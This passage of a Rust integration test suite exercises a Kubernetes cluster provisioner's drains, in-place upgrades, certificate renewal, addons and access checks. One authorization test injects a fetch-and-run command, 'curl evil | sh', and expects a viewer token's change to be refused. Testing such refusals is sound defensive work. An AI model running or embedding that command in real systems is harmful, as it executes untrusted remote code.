             spec: {{minAvailable: 1, selector: {{matchLabels: {{app: web}}}}}}\n",
            node = worker.hostname
        ),
    )
    .unwrap();
    kubectl(
        &admin,
        &[
            "create",
            "--validate=false",
            "-f",
            manifests.to_str().unwrap(),
        ],
    )
    .unwrap();

    // The operator deletes the worker: it is cordoned, the drain is
    // refused for the emptyDir Pod (nothing is evicted), and after the
    // drain timeout the removal halts, saying which Pod and why.
    c.cli_ok(&["delete", "machine", &worker_name]);
    let message = c.wait_condition("drain", "DrainFailed", "True");
    assert!(
        message.contains("cannot delete Pods with local storage")
            && message.contains("default/solo")
            && message.contains("spec.drain.deleteEmptyDirData"),
        "{message}"
    );
    assert!(kubectl(&admin, &["get", "pod", "web-1"]).is_ok());
    // The drain policy allows deleting it: the next attempt evicts it (it
    // goes after its grace period), and the budget refuses web-1's.
    apply(
        &c,
        tmp.path(),
        &(pool_cluster_yaml("drain", 1, 1, "dev")
            + "  drain:\n    timeout: 20s\n    deleteEmptyDirData: true\n    deletePodsWithoutController: true\n"),
    );
    wait_for("the budget alone to be what blocks the drain", BOOT, || {
        let described = c.cli_ok(&["describe", "cluster", "drain"]);
        if described.contains("default/web-1")
            && described.contains("disruption budget web")
            && !described.contains("default/solo")
        {
            Ok(())
        } else {
            Err(described)
        }
    });
    wait_for("the evicted bare Pod to go", BOOT, || {
        match kubectl(&admin, &["get", "pod", "solo"]) {
            Err(e) if e.contains("NotFound") => Ok(()),
            other => Err(format!("{other:?}")),
        }
    });
    let held = c.machines();
    let held = machine_by_host(&held, &worker.hostname);
    assert_eq!(held["status"]["phase"], "Running", "{held}");
    assert!(
        kubectl(&admin, &["get", "pod", "web-1"]).is_ok(),
        "the protected pod stays"
    );
    let cordoned = kubectl(
        &admin,
        &[
            "get",
            "node",
            &worker.hostname,
            "-o",
            "jsonpath={.spec.unschedulable}",
        ],
    );
    assert_eq!(cordoned.as_deref(), Ok("true"));
    let described = c.cli_ok(&["describe", "cluster", "drain"]);
    assert!(
        described.contains("Drain:") && described.contains("refused"),
        "{described}"
    );

    // Without the budget the next attempt evicts the pod; the worker is
    // released and its Node deleted.
    kubectl(&admin, &["delete", "pdb", "web"]).unwrap();
    wait_for(
        "the drained worker to leave and its Node to go",
        BOOT,
        || {
            let gone = !c
                .machines()
                .iter()
                .any(|m| m["metadata"]["name"] == worker_name.as_str());
            let node_gone = kubectl(&admin, &["get", "node", &worker.hostname])
                .err()
                .is_some_and(|e| e.contains("NotFound"));
            if gone && node_gone {
                Ok(())
            } else {
                Err(format!("machine gone: {gone}, node gone: {node_gone}"))
            }
        },
    );
    let pod = kubectl(&admin, &["get", "pod", "web-1"]);
    assert!(
        pod.is_err_and(|e| e.contains("NotFound")),
        "the pod was evicted"
    );
    c.wait_condition("drain", "DrainFailed", "False");
}

#[test]
fn a_pool_cluster_upgrades_in_place_one_machine_at_a_time_control_plane_first() {
    let (tmp, c, boot) = coordinator_with_token("default", "env=dev", 3, "1h");
    // Each machine has its own kubeadm installation and upgrade hooks, as
    // a node image has.
    let agents: Vec<Agent> = (0..3)
        .map(|i| {
            Agent::start_installed(&tmp.path().join(format!("m{i}")), &format!("up-{i}"), &boot)
        })
        .collect();
    wait_registered(&c, 3);
    let doc = pool_cluster_yaml("up", 1, 2, "dev").replace(
        "  controlPlane:",
        "  upgrade:\n    settleTime: 2s\n  controlPlane:",
    );
    c.apply_until_running(tmp.path(), "up", &doc, BOOT);
    let kubeconfig = tmp.path().join("kubeconfig");
    std::fs::write(&kubeconfig, c.cli_ok(&["kubeconfig", "up"])).unwrap();
    wait_for("three v1.31.2 kubelets", BOOT, || {
        let v = kube::kubelet_versions(&kubeconfig)?;
        (v == ["v1.31.2"; 3]).then_some(()).ok_or(format!("{v:?}"))
    });
    assert_eq!(kube::server_version(&kubeconfig), "v1.31.2");

    // One machine's image lacks the kubelet hook: its upgrade fails and
    // halts the rollout there.
    let hook = agents[2].root.join("usr/lib/drover/upgrade-kubelet");
    std::fs::remove_file(&hook).unwrap();

    // v1.31.2 -> v1.32.0: the machines upgrade where they stand.
    apply(&c, tmp.path(), &doc.replace("v1.31.2", "v1.32.0"));
    // While it is under way, the next minor release waits for it.
    wait_for("the rollout status", BOOT, || {
        c.cluster("up")
            .filter(|c| !c["status"]["rollout"].is_null())
            .map(|_| ())
            .ok_or_else(|| "no rollout yet".to_string())
    });
    let next = tmp.path().join("next.yaml");
    let err = c.apply_refused(&next, &doc.replace("v1.31.2", "v1.33.0"));
    assert!(
        err.contains("a machine still runs v1.31.2")
            && err.contains("cannot go from v1.31.2 to v1.33.0"),
        "{err}"
    );
    let halted = c.cli(&["rollout", "status", "up", "--wait", "--timeout", "240s"]);
    let log = String::from_utf8_lossy(&halted.stderr).into_owned();
    eprintln!("in-place upgrade progress, to the halt:\n{log}");
    let broken = machine_by_host(&c.machines(), "up-2")["metadata"]["name"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(
        !halted.status.success()
            && log.contains(&format!("HALTED at machine {broken} (step upgrade)"))
            && log.contains("the machine image has no upgrade hook")
            && log.contains("nothing was changed"),
        "{log}"
    );
    c.wait_condition("up", "UpgradeHalted", "True");
    // From inside the cluster: its Node stays cordoned, still v1.31.2.
    let node = kube::kubectl(
        &kubeconfig,
        &[
            "get",
            "node",
            "up-2",
            "-o",
            "jsonpath={.spec.unschedulable} {.status.nodeInfo.kubeletVersion}",
        ],
    )
    .unwrap();
    assert_eq!(node, "true v1.31.2");

    // The image fixed, an operator resumes: the rest completes.
    std::os::unix::fs::symlink(agents[2].root.join("usr/bin/kubeadm"), &hook).unwrap();
    c.cli_ok(&["rollout", "resume", "up"]);
    let progress = c.cli(&["rollout", "status", "up", "--wait", "--timeout", "240s"]);
    let log = format!("{log}{}", String::from_utf8_lossy(&progress.stderr));
    assert!(
        progress.status.success(),
        "rollout: {}\n{log}\n{}",
        String::from_utf8_lossy(&progress.stdout),
        agents
            .iter()
            .map(|a| a.log())
            .collect::<Vec<_>>()
            .join("\n")
    );
    eprintln!("in-place upgrade progress, all of it:\n{log}");
    c.wait_condition("up", "UpgradeHalted", "False");
    // The control plane went first: it was at v1.32.0 while both workers
    // still waited.
    assert!(
        log.lines()
            .any(|l| l.contains("control-plane: 1/1 at v1.32.0;")
                && l.contains("default: 0/2 at v1.32.0, 2 to upgrade")),
        "{log}"
    );

    // No machine was replaced: the same three run, each upgraded by its
    // own kubeadm (`upgrade apply` on the control plane, `upgrade node` on
    // the workers), between its hooks, and report v1.32.0.
    let machines = c.machines();
    assert_eq!(machines.len(), 3);
    for a in &agents {
        let m = machine_by_host(&machines, &a.hostname);
        assert_eq!(m["status"]["phase"], "Running", "{m}");
        assert_eq!(m["status"]["kubeadmVersion"], "v1.32.0", "{m}");
        assert_eq!(m["spec"]["assignment"]["kubernetesVersion"], "v1.32.0");
        let calls: Vec<Vec<String>> = a
            .kubeadm_calls()
            .iter()
            .filter(|c| c["exit"] == 0)
            .filter_map(|c| serde_json::from_value(c["argv"].clone()).ok())
            .collect();
        let pos = |pred: &dyn Fn(&Vec<String>) -> bool| {
            calls
                .iter()
                .position(pred)
                .unwrap_or_else(|| panic!("{}: {calls:?}", a.hostname))
        };
        let hook_kubeadm = pos(&|c| c[0].ends_with("/upgrade-kubeadm") && c[1] == "v1.32.0");
        let upgrade = pos(&|c| c.get(1).is_some_and(|s| s == "upgrade"));
        let hook_kubelet = pos(&|c| c[0].ends_with("/upgrade-kubelet") && c[1] == "v1.32.0");
        assert!(
            hook_kubeadm < upgrade && upgrade < hook_kubelet,
            "{calls:?}"
        );
        let verb = &calls[upgrade][2];
        if m["spec"]["assignment"]["role"] == "init" {
            assert_eq!(&calls[upgrade][2..4], ["apply", "v1.32.0"], "{calls:?}");
        } else {
            assert_eq!(verb, "node", "{calls:?}");
        }
        assert_eq!(
            calls
                .iter()
                .filter(|c| c[1] == "init" || c[1] == "join")
                .count(),
            1,
            "bootstrapped once: {calls:?}"
        );
    }
    // From inside the cluster: the API server and every kubelet are
    // v1.32.0, every Node Ready and schedulable again.
    assert_eq!(kube::server_version(&kubeconfig), "v1.32.0");
    wait_for("three Ready, schedulable v1.32.0 Nodes", BOOT, || {
        let v = kube::kubelet_versions(&kubeconfig)?;
        let ready = kube::ready_nodes(&kubeconfig)?;
        let cordoned = kube::kubectl(
            &kubeconfig,
            &[
                "get",
                "nodes",
                "-o",
                "jsonpath={.items[*].spec.unschedulable}",
            ],
        )?;
        (v == ["v1.32.0"; 3] && ready.len() == 3 && cordoned.trim().is_empty())
            .then_some(())
            .ok_or(format!("{v:?} ready {ready:?} unschedulable {cordoned:?}"))
    });
    let status = c.cli_ok(&["rollout", "status", "up"]);
    assert!(
        status.contains("no rollout: every machine is at v1.32.0"),
        "{status}"
    );
}

#[test]
fn a_pool_control_plane_renews_its_certificates_in_place_before_they_expire() {
    let (tmp, c, agents) = registered_pool(1, "node-");
    let doc = pool_cluster_yaml("renew", 1, 0, "dev");
    c.apply_until_running(tmp.path(), "renew", &doc, BOOT);
    let expiry = |m: &serde_json::Value| {
        m["status"]["certificates"]["expiresAt"]
            .as_str()
            .and_then(|t| OffsetDateTime::parse(t, &Rfc3339).ok())
    };
    let first = wait_for("the certificate expiry", BOOT, || {
        c.machines()
            .first()
            .and_then(expiry)
            .ok_or_else(|| "not reported".to_string())
    });
    let serving =
        || std::fs::read(agents[0].root.join("etc/kubernetes/pki/apiserver.crt")).unwrap();
    let before = serving();

    // A renewal window a minute short of the certificates' year: within a
    // minute the machine renews them where it stands (a pool machine is
    // never replaced for this) and reports the new expiry.
    let window = doc.replace(
        "  controlPlane:",
        "  upgrade:\n    renewCertificatesBefore: 525599m\n  controlPlane:",
    );
    apply(&c, tmp.path(), &window);
    let renewed = wait_for("the renewed certificates", BOOT * 2, || {
        let m = c.machines().first().cloned().ok_or("no machine")?;
        match expiry(&m) {
            Some(at) if at > first => Ok(m),
            other => Err(format!("expiry {other:?}, first {first}")),
        }
    });
    apply(&c, tmp.path(), &doc);
    assert_eq!(renewed["status"]["phase"], "Running");
    assert_ne!(serving(), before, "apiserver.crt was not renewed");
    let subs = agents[0].kubeadm_subcommands();
    assert_eq!(subs.iter().filter(|s| *s == "init").count(), 1, "{subs:?}");
    assert!(subs.iter().any(|s| s == "certs"), "{subs:?}");
    assert!(
        agents[0]
            .log()
            .contains("certificates renewed; static Pods restarted: etcd.yaml"),
        "{}",
        agents[0].log()
    );
    // From inside the cluster: real kubectl, through a new kubeconfig, sees
    // the same Node Ready.
    let kubeconfig = tmp.path().join("kubeconfig");
    std::fs::write(&kubeconfig, c.cli_ok(&["kubeconfig", "renew"])).unwrap();
    wait_for("the Node Ready after the restart", BOOT, || {
        let ready = kube::ready_nodes(&kubeconfig)?;
        (ready == ["node-0"])
            .then_some(())
            .ok_or(format!("{ready:?}"))
    });
}

/// The condition `type_` of cluster `c` as `(status, reason, message)`.
fn cluster_condition(c: &serde_json::Value, type_: &str) -> (String, String, String) {
    c["status"]["conditions"]
        .as_array()
        .into_iter()
        .flatten()
        .find(|x| x["type"] == type_)
        .map(|x| {
            let s = |k: &str| x[k].as_str().unwrap_or_default().to_owned();
            (s("status"), s("reason"), s("message"))
        })
        .unwrap_or_default()
}

#[test]
fn files_and_commands_land_where_the_spec_says_and_only_admins_set_them() {
    let (tmp, c, agents) = registered_pool(3, "cust-");
    // The bridge CNI config for every machine (cluster_yaml's), a file for
    // control planes only, one for pool gpu only; commands around kubeadm.
    let spec = format!(
        "{cni}    - path: /etc/drover-test/cp-only.conf
      content: control-plane-secret
      permissions: \"0600\"
      controlPlaneOnly: true
  preKubeadmCommands:
    - mkdir -p \"$DROVER_ROOT/var/log\" && test ! -e \"$DROVER_ROOT/etc/kubernetes/kubelet.conf\" && echo pre >> \"$DROVER_ROOT/var/log/drover-test.log\"
  postKubeadmCommands:
    - test -f \"$DROVER_ROOT/etc/kubernetes/kubelet.conf\" && echo post >> \"$DROVER_ROOT/var/log/drover-test.log\"
  controlPlane:
    replicas: 1
  workerPools:
    - name: gpu
      replicas: 1
      files:
        - path: /etc/drover-test/gpu.conf
          content: gpu-pool
      postKubeadmCommands:
        - echo gpu-post >> \"$DROVER_ROOT/var/log/drover-test.log\"
    - name: plain
      replicas: 1
{provider}",
        cni = bridge_cni_files(),
        provider = pool_provider("dev")
    );
    let doc = cluster_doc("cust", &spec);
    c.apply_until_running(tmp.path(), "cust", &doc, BOOT);
    let machines = c.machines();
    let pool_of = |a: &Agent| {
        machine_by_host(&machines, &a.hostname)["spec"]["assignment"]["machinePool"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    for a in &agents {
        let pool = pool_of(a);
        let has = |p: &str| a.root.join(p).exists();
        assert!(has("etc/cni/net.d/10-bridge.conflist"), "{pool}");
        assert_eq!(
            has("etc/drover-test/cp-only.conf"),
            pool == "control-plane",
            "{pool}"
        );
        assert_eq!(has("etc/drover-test/gpu.conf"), pool == "gpu", "{pool}");
        let log = std::fs::read_to_string(a.root.join("var/log/drover-test.log")).unwrap();
        let want = if pool == "gpu" {
            "pre\npost\ngpu-post\n"
        } else {
            "pre\npost\n"
        };
        assert_eq!(log, want, "{pool}");
        if pool == "control-plane" {
            use std::os::unix::fs::PermissionsExt;
            let meta = std::fs::metadata(a.root.join("etc/drover-test/cp-only.conf")).unwrap();
            assert_eq!(meta.permissions().mode() & 0o777, 0o600);
        }
    }
    // Inside the cluster: three Ready Nodes, and the cluster says Ready.
    kubeconfig_with_ready_nodes(&c, tmp.path(), "cust", 3);
    wait_for("the cluster Ready", BOOT, || {
        let got = cluster_condition(&c.cluster("cust").unwrap(), "Ready");
        (got.0 == "True").then_some(()).ok_or(format!("{got:?}"))
    });

    // The apply is audited with what it put on machines, content hashed.
    let audit: Vec<serde_json::Value> =
        serde_json::from_str(&c.cli_ok(&["audit", "--limit", "100", "-o", "json"])).unwrap();
    let changes: Vec<String> = audit
        .iter()
        .filter(|e| e["method"] == "PUT" && e["status"] == 201)
        .flat_map(|e| e["changes"].as_array().cloned().unwrap_or_default())
        .map(|l| l.as_str().unwrap().to_owned())
        .collect();
    assert!(
        changes.iter().any(|l| l
            .starts_with("spec.files /etc/drover-test/cp-only.conf added (sha256 ")
            && l.contains("0600 root:root, control planes only")),
        "{changes:#?}"
    );
    assert!(changes
        .iter()
        .any(|l| l.starts_with("spec.workerPools[gpu].files /etc/drover-test/gpu.conf added")));
    assert!(changes
        .iter()
        .any(|l| l.starts_with("spec.preKubeadmCommands changed to 1 commands (sha256 ")));
    assert!(
        !changes.iter().any(|l| l.contains("control-plane-secret")),
        "{changes:#?}"
    );

    // A viewer token sets no file and no command.
    let viewer = c.create_admin_token("viewer");
    let before = c.cluster("cust").unwrap();
    let sneaky = doc.replace("echo gpu-post", "curl evil | sh; echo gpu-post");
    c.api(None)
        .send(
            "PUT",
            "/v1/clusters/cust",
            Some(&viewer),
            Some(("application/yaml", sneaky.into_bytes())),
        )
        .assert_problem(403, "viewer role");
    assert_eq!(before["spec"], c.cluster("cust").unwrap()["spec"]);

    // A file at a path the agent owns is refused at apply, naming it.
    let f = tmp.path().join("reserved.yaml");
    let err = c.apply_refused(
        &f,
        &doc.replace("/etc/drover-test/gpu.conf", "/etc/kubernetes/pki/ca.key"),
    );
    assert!(
        err.contains("spec.workerPools[0].files[0].path")
            && err.contains("/etc/kubernetes/pki/ca.key")
            && err.contains("kubeadm owns /etc/kubernetes/pki/"),
        "{err}"
    );
}

#[test]
fn a_failing_pre_kubeadm_command_fails_its_machine_which_is_replaced() {
    let (tmp, c, _agents) = registered_pool(3, "prec-");
    let doc = pool_cluster_yaml("prec", 1, 0, "dev").replace(
        "  controlPlane:",
        "  health:\n    startupTimeout: 10s\n    maxUnhealthy: 100%\n  workerPools:\n    - name: mirror\n      replicas: 1\n      preKubeadmCommands:\n        - echo cannot reach registry.mirror.example; exit 3\n  controlPlane:",
    );
    // pool_cluster_yaml names its own (empty) pool; keep only ours.
    let doc = doc.replace(
        "  workerPools:\n    - name: default\n      replicas: 0\n",
        "",
    );
    apply(&c, tmp.path(), &doc);
    // The first worker fails at its command, with what it said.
    let (first, events) = wait_for("a worker to fail at its command", BOOT, || {
        let ms = c.machines();
        let m = ms
            .iter()
            .find(|m| {
                m["spec"]["assignment"]["machinePool"] == "mirror"
                    && m["status"]["bootstrap"]["step"] == "pre-kubeadm-commands"
                    && m["status"]["phase"] == "Failed"
            })
            .ok_or_else(|| format!("{ms:#?}"))?;
        Ok::<_, String>((
            m["metadata"]["name"].as_str().unwrap().to_owned(),
            m["status"]["events"].to_string(),
        ))
    });
    assert!(
        events.contains(
            "pre-kubeadm-commands: `/bin/sh -c 'echo cannot reach registry.mirror.example; exit 3'` exited with status 3; output ends: cannot reach registry.mirror.example"
        ),
        "{events}"
    );
    let described = c.cli_ok(&["describe", "machine", &first]);
    assert!(described.contains("exit code:    3"), "{described}");
    // Past its startup timeout it is replaced by the free machine.
    wait_for("the free machine to replace it", BOOT, || {
        let ms = c.machines();
        ms.iter()
            .any(|m| m["spec"]["assignment"]["replaces"] == first.as_str())
            .then_some(())
            .ok_or_else(|| {
                format!(
                    "conditions {:#}; machines {}",
                    c.cluster("prec").unwrap()["status"]["conditions"],
                    c.cli_ok(&["get", "machines"])
                )
            })
    });
    // The cluster is not Running while its worker cannot start.
    assert_ne!(c.cluster("prec").unwrap()["status"]["phase"], "Running");
}

#[test]
fn without_a_pod_network_the_cluster_says_so_and_no_machine_is_blamed() {
    let (tmp, c, agents) = registered_pool(2, "nonet-");
    let doc = pool_cluster_yaml("nonet", 1, 1, "dev")
        .replace(&bridge_cni_files(), "")
        .replace(
            "  controlPlane:",
            "  health:\n    unhealthyTimeout: 3s\n    maxUnhealthy: 100%\n  controlPlane:",
        );
    assert!(!doc.contains("files:"), "{doc}");
    c.apply_until_running(tmp.path(), "nonet", &doc, BOOT);
    let kubeconfig = tmp.path().join("kubeconfig");
    std::fs::write(&kubeconfig, c.cli_ok(&["kubeconfig", "nonet"])).unwrap();
    // Real kubectl: both Nodes NotReady, with the kubelet's reason.
    let message = "jsonpath={.items[*].status.conditions[?(@.type==\"Ready\")].message}";
    wait_for("two Nodes without a network", BOOT, || {
        let out = kubectl(&kubeconfig, &["get", "nodes", "-o", message])?;
        (out.matches("cni plugin not initialized").count() == 2)
            .then_some(())
            .ok_or(out)
    });
    let (status, _, text) = wait_for("the cluster to say why", BOOT, || {
        let got = cluster_condition(&c.cluster("nonet").unwrap(), "Ready");
        (got.1 == "NodesNotReady")
            .then_some(got.clone())
            .ok_or(format!("{got:?}"))
    });
    assert_eq!(status, "False");
    assert!(text.starts_with("no pod network: Nodes "), "{text}");
    // Well past the unhealthy timeout (two more reports of the Nodes), no
    // machine is blamed: a new one would have no network either.
    let reported = |c: &Coordinator| {
        c.machines()
            .iter()
            .filter_map(|m| m["status"]["lastHeartbeatTime"].as_str())
            .map(|t| OffsetDateTime::parse(t, &Rfc3339).unwrap())
            .min()
    };
    let from = reported(&c).expect("machines heartbeat");
    wait_for("heartbeats 5 s later", BOOT, || {
        let now = reported(&c).unwrap();
        (now - from > time::Duration::seconds(5))
            .then_some(())
            .ok_or(format!("{now}"))
    });
    for m in c.machines() {
        assert_eq!(m["status"]["phase"], "Running", "{m:#}");
        assert!(m["spec"]["assignment"]["replaces"].is_null(), "{m:#}");
        assert!(
            !m["status"]["events"].to_string().contains("Unhealthy"),
            "{m:#}"
        );
    }
    // What a network's DaemonSet does on each node: a CNI config. Ready
    // follows, inside the cluster and in the cluster's condition.
    for a in &agents {
        let p = a.root.join("etc/cni/net.d/10-bridge.conflist");
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, BRIDGE_CNI_CONFLIST).unwrap();
    }
    wait_for("two Ready Nodes", BOOT, || {
        let ready = ready_nodes(&kubeconfig)?;
        (ready.len() == 2).then_some(()).ok_or(format!("{ready:?}"))
    });
    wait_for("the cluster Ready", BOOT, || {
        let got = cluster_condition(&c.cluster("nonet").unwrap(), "Ready");
        (got.0 == "True").then_some(()).ok_or(format!("{got:?}"))
    });
}

#[test]
fn a_cluster_whose_api_server_alone_died_is_not_ready() {
    let (tmp, c, agents) = registered_pool(2, "apidown-");
    apply(&c, tmp.path(), &pool_cluster_yaml("apidown", 1, 1, "dev"));
    c.wait_cluster_phase("apidown", "Running", BOOT);
    kubeconfig_with_ready_nodes(&c, tmp.path(), "apidown", 2);
    wait_for("the cluster Ready", BOOT, || {
        let got = cluster_condition(&c.cluster("apidown").unwrap(), "Ready");
        (got.0 == "True").then_some(()).ok_or(format!("{got:?}"))
    });
    // The init machine's API server process dies; its agent, kubelet and
    // etcd live on.
    let machines = c.machines();
    let init = agents
        .iter()
        .find(|a| machine_by_host(&machines, &a.hostname)["spec"]["assignment"]["role"] == "init")
        .expect("an init machine");
    let pid_file = init.root.join("run/standin/apiserver.pid");
    let pid: i32 = std::fs::read_to_string(&pid_file)
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(pid),
        nix::sys::signal::Signal::SIGKILL,
    )
    .unwrap();
    // Within a few heartbeats (timeout 5 s) the cluster says its API does
    // not answer; no machine went silent.
    let (status, _, message) = wait_for("Ready False: the endpoint", BOOT, || {
        let got = cluster_condition(&c.cluster("apidown").unwrap(), "Ready");
        (got.1 == "EndpointNotReady")
            .then_some(got.clone())
            .ok_or(format!("{got:?}"))
    });
    assert_eq!(status, "False");
    assert!(message.contains("does not answer /readyz"), "{message}");
    for m in c.machines() {
        assert_eq!(m["status"]["phase"], "Running", "{m:#}");
    }
}

/// The addon statuses of cluster `name` as `(name, phase, message)`.
fn addon_states(c: &Coordinator, name: &str) -> Vec<(String, String, String)> {
    c.cluster(name).unwrap()["status"]["addons"]
        .as_array()
        .cloned()
        .unwrap_or_default()
        .iter()
        .map(|a| {
            let s = |k: &str| a[k].as_str().unwrap_or_default().to_owned();
            (s("name"), s("phase"), s("message"))
        })
        .collect()
}

#[test]
fn addons_are_applied_in_order_reconciled_reported_and_never_deleted() {
    let (tmp, c, _agents) = registered_pool(2, "addon-");
    let net = "apiVersion: v1
kind: Namespace
metadata:
  name: drover-net
---
apiVersion: v1
kind: ConfigMap
metadata:
  name: settings
  namespace: drover-net
data:
  mode: bridge
---
apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: net-agent
  namespace: drover-net
spec:
  selector:
    matchLabels: {app: net-agent}
  template:
    metadata:
      labels: {app: net-agent}
    spec:
      containers: [{name: agent, image: registry.local/net-agent:1}]
";
    let indent = |text: &str| {
        text.lines()
            .map(|l| format!("        {l}\n"))
            .collect::<String>()
    };
    std::fs::write(
        tmp.path().join("extra.yaml"),
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: extra, namespace: kube-system}\ndata: {v: \"1\"}\n",
    )
    .unwrap();
    let doc = |net: &str, extra_addons: &str| {
        pool_cluster_yaml("addons", 1, 1, "dev").replace(
            "  controlPlane:",
            &format!(
                "  addons:\n    - name: net\n      manifests: |\n{}    - name: extra\n      mode: Reconcile\n      manifestsFrom: extra.yaml\n{extra_addons}  controlPlane:",
                indent(net)
            ),
        )
    };
    let f = tmp.path().join("addons.yaml");
    c.apply_file(&f, &doc(net, ""));
    let stored = c.cluster("addons").unwrap();
    assert!(
        stored["spec"]["addons"][1]["manifests"]
            .as_str()
            .unwrap()
            .contains("name: extra"),
        "drover apply stores the file's content: {:#}",
        stored["spec"]["addons"]
    );
    assert!(stored["spec"]["addons"][1]["manifestsFrom"].is_null());
    c.wait_cluster_phase("addons", "Running", BOOT);
    wait_for("both addons Applied and the cluster Ready", BOOT, || {
        let states = addon_states(&c, "addons");
        let ready = cluster_condition(&c.cluster("addons").unwrap(), "Ready");
        (states.iter().all(|s| s.1 == "Applied") && states.len() == 2 && ready.0 == "True")
            .then_some(())
            .ok_or(format!("{states:?} {ready:?}"))
    });
    let kubeconfig = tmp.path().join("kubeconfig");
    std::fs::write(&kubeconfig, c.cli_ok(&["kubeconfig", "addons"])).unwrap();
    let field = |what: &[&str], namespace: &str, path: &str| {
        kube::jsonpath(&kubeconfig, what, namespace, path).unwrap()
    };
    assert_eq!(
        field(&["configmap", "settings"], "drover-net", "{.data.mode}"),
        "bridge"
    );
    assert_eq!(
        field(
            &["configmap", "settings"],
            "drover-net",
            "{.metadata.managedFields[*].manager}"
        ),
        "drover"
    );
    assert_eq!(
        field(&["daemonsets"], "drover-net", "{.items[*].metadata.name}"),
        "net-agent"
    );
    assert_eq!(
        field(&["configmap", "extra"], "kube-system", "{.data.v}"),
        "1"
    );
    let described = c.cli_ok(&["describe", "cluster", "addons"]);
    assert!(
        described.contains("1. net (ApplyOnce): Applied sha256:"),
        "{described}"
    );
    assert!(
        described.contains("2. extra (Reconcile): Applied sha256:"),
        "{described}"
    );

    // Both change: the Reconcile addon is applied again, the ApplyOnce one
    // is not.
    std::fs::write(
        tmp.path().join("extra.yaml"),
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: extra, namespace: kube-system}\ndata: {v: \"2\"}\n",
    )
    .unwrap();
    c.apply_file(&f, &doc(&net.replace("mode: bridge", "mode: vxlan"), ""));
    wait_for("extra re-applied", BOOT, || {
        let v = field(&["configmap", "extra"], "kube-system", "{.data.v}");
        (v == "2").then_some(()).ok_or(v)
    });
    assert_eq!(
        field(&["configmap", "settings"], "drover-net", "{.data.mode}"),
        "bridge",
        "an ApplyOnce addon is not applied again"
    );

    // A manifest the API server refuses: the addon fails with the server's
    // message, the cluster is not Ready, and it is tried again.
    let broken = "    - name: broken\n      manifests: |\n        apiVersion: apps/v1\n        kind: Deployment\n        metadata: {name: web, namespace: default}\n        spec:\n          selector: {matchLabels: {app: web}}\n          template:\n            metadata: {labels: {app: other}}\n            spec: {containers: [{name: web, image: web}]}\n";
    c.apply_file(
        &f,
        &doc(&net.replace("mode: bridge", "mode: vxlan"), broken),
    );
    let message = wait_for("the broken addon to fail twice", BOOT, || {
        let cluster = c.cluster("addons").unwrap();
        let broken = cluster["status"]["addons"][2].clone();
        let ready = cluster_condition(&cluster, "Ready");
        (broken["phase"] == "Failed"
            && broken["failures"].as_u64() >= Some(2)
            && ready.1 == "AddonFailed")
            .then(|| broken["message"].as_str().unwrap().to_owned())
            .ok_or(format!("{broken} {ready:?}"))
    });
    assert!(
        message.starts_with("Deployment default/web: Deployment \"web\" is invalid: spec.template.metadata.labels: Invalid value")
            && message.contains("`selector` does not match template `labels`"),
        "{message}"
    );
    let described = c.cli_ok(&["describe", "cluster", "addons"]);
    assert!(
        described.contains("3. broken (ApplyOnce): Failed ("),
        "{described}"
    );
    assert!(
        described.contains("AddonsApplied = False (AddonFailed) addon broken failed"),
        "{described}"
    );

    // Removed from the spec, it is forgotten; what the others applied stays.
    c.apply_file(&f, &doc(&net.replace("mode: bridge", "mode: vxlan"), ""));
    wait_for("the cluster Ready again", BOOT, || {
        let got = cluster_condition(&c.cluster("addons").unwrap(), "Ready");
        (got.0 == "True").then_some(()).ok_or(format!("{got:?}"))
    });
    assert_eq!(addon_states(&c, "addons").len(), 2);
    assert_eq!(
        field(&["configmap", "settings"], "drover-net", "{.data.mode}"),
        "bridge"
    );

    // A document without metadata.name is refused at apply, naming it.
    let err = c.apply_refused(&f, &doc(&net.replace("  name: settings\n", ""), ""));
    assert!(
        err.contains("spec.addons[0].manifests")
            && err.contains("document 2 (ConfigMap) has no metadata.name"),
        "{err}"
    );
}

#[test]
fn the_image_network_makes_nodes_ready_and_goes_in_as_the_first_addon() {
    let (tmp, c, agents) = registered_pool(2, "imgnet-");
    // What the node image ships (scripts/build-node-image copies the same).
    let repo = Path::new(env!("CARGO_MANIFEST_DIR")).join("../images/cni");
    for a in &agents {
        let dir = a.root.join("usr/share/drover/cni/net.d");
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::copy(
            repo.join("manifests.yaml"),
            dir.parent().unwrap().join("manifests.yaml"),
        )
        .unwrap();
        std::fs::copy(
            repo.join("net.d/10-drover-bridge.conflist"),
            dir.join("10-drover-bridge.conflist"),
        )
        .unwrap();
    }
    let team = "  addons:\n    - name: team\n      manifests: |\n        apiVersion: v1\n        kind: Namespace\n        metadata: {name: team}\n";
    let doc = pool_cluster_yaml("imgnet", 1, 1, "dev")
        .replace(&bridge_cni_files(), "")
        .replace(
            "  controlPlane:",
            &format!("  network:\n    cni: image\n{team}  controlPlane:"),
        );
    // The image's network is addon "cni": the name is taken.
    let f = tmp.path().join("taken.yaml");
    let err = c.apply_refused(
        &f,
        &doc.replace("name: team\n      manifests", "name: cni\n      manifests"),
    );
    assert!(
        err.contains("\"cni\" is the node image's pod network"),
        "{err}"
    );
    c.apply_until_running(tmp.path(), "imgnet", &doc, BOOT);
    let kubeconfig = kubeconfig_with_ready_nodes(&c, tmp.path(), "imgnet", 2);
    wait_for("both addons applied, the image's first", BOOT, || {
        let states = addon_states(&c, "imgnet");
        let names: Vec<&str> = states.iter().map(|s| s.0.as_str()).collect();
        (names == ["cni", "team"] && states.iter().all(|s| s.1 == "Applied"))
            .then_some(())
            .ok_or(format!("{states:?}"))
    });
    // Each Node's bridge takes that Node's own pod range.
    let mut subnets = std::collections::BTreeSet::new();
    for a in &agents {
        let path = a.root.join("etc/cni/net.d/10-drover-bridge.conflist");
        let conf = std::fs::read_to_string(&path).unwrap();
        let doc: serde_json::Value = serde_json::from_str(&conf).unwrap();
        assert_eq!(doc["plugins"][0]["type"], "bridge", "{conf}");
        subnets.insert(
            doc["plugins"][0]["ipam"]["ranges"][0][0]["subnet"]
                .as_str()
                .unwrap()
                .to_owned(),
        );
    }
    let ranges = kubectl(
        &kubeconfig,
        &["get", "nodes", "-o", "jsonpath={.items[*].spec.podCIDR}"],
    )
